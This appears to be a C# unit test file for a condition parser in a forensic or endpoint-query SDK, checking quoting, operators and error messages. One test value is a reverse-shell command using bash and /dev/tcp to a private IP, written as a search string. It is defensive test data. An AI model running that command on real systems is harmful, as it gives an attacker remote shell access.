using System.Text.Json;
using CsCheck;
using Megaraptor.Sdk.Errors;
using Megaraptor.Sdk.Operations.Results;

namespace Megaraptor.Sdk.Tests.Operations.Results;

/// <summary>Conditions as people and models write them.</summary>
public sealed class ConditionParserTests
{
    private static readonly Gen<string> s_texts = Gen.OneOf(Gen.String[Gen.Char.AlphaNumeric, 1, 20], Gen.String[Gen.Char["\"\\ '`=<>[]{}()\t\u00e9\u202e."], 1, 20]);

    [Fact]
    public void What_is_quoted_is_read_exactly() => Gen.Select(s_texts, s_texts, OneOf("=", "!=", "<", ">", "<=", ">=", "contains", "starts_with", "ends_with", "matches")).Sample(static (column, value, word) =>
    {
        ResultCondition condition = ConditionParser.Parse($"{Quote(column)} {word} {Quote(value)}");
        return condition.Column == column && condition.Values is [{ IsQuoted: true } single] && single.Text == value;
    });

    [Fact]
    public void No_text_makes_the_reader_fail_otherwise() => Gen.OneOf(Gen.String, s_texts, Gen.Select(s_texts, s_texts).Select(static pair => $"{pair.Item1} = {pair.Item2}"), s_texts.Select(static text => $"a in [{text}]")).Sample(static text =>
    {
        try
        {
            return ConditionParser.Parse(text).Column.Length > 0;
        }
        catch (InvalidArgumentException failure)
        {
            return failure.Hint is not null;
        }
    });

    [Theory]
    [InlineData("Pid > 100", "Pid", "100")]
    [InlineData("CommandLine contains bash -i >& /dev/tcp/10.0.0.1/443 0>&1", "CommandLine", "bash -i >& /dev/tcp/10.0.0.1/443 0>&1")]
    [InlineData("\"Local Address\" starts_with 10.", "Local Address", "10.")]
    [InlineData("  Name = \"\"  ", "Name", "")]
    [InlineData("Path = C:\\Windows\\x.exe", "Path", "C:\\Windows\\x.exe")]
    [InlineData("Hash.SHA256 = ab", "Hash.SHA256", "ab")]
    public void The_value_is_the_rest_of_the_text(string text, string column, string value)
    {
        ResultCondition condition = ConditionParser.Parse(text);

        (condition.Column, condition.Values.Single().Text).ShouldBe((column, value));
    }

    [Theory]
    [InlineData("", "names no column")]
    [InlineData("Name", "has no operator")]
    [InlineData("Name nc", "'nc' is no operator")]
    [InlineData("Name LIKE nc", "'LIKE' is no operator")]
    [InlineData("Name =", "has no value")]
    [InlineData("Name = \"nc\" x", "behind the quoted value")]
    [InlineData("Name = \"nc", "not closed")]
    [InlineData("Name contains \"\"", "everything fulfils")]
    [InlineData("Name in nc, sh", "JSON list")]
    [InlineData("Name in []", "JSON list")]
    [InlineData("Name in [null]", "texts, numbers")]
    [InlineData("Exe is_null x", "nothing stands behind")]
    public void What_is_no_condition_is_refused_and_says_why(string text, string why) =>
        Should.Throw<InvalidArgumentException>(() => ConditionParser.Parse(text)).Message.ShouldContain(why);

    private static string Quote(string text) => $"\"{JsonEncodedText.Encode(text)}\"";

    private static Gen<string> OneOf(params string[] texts) => Gen.Int[0, texts.Length - 1].Select(index => texts[index]);
}
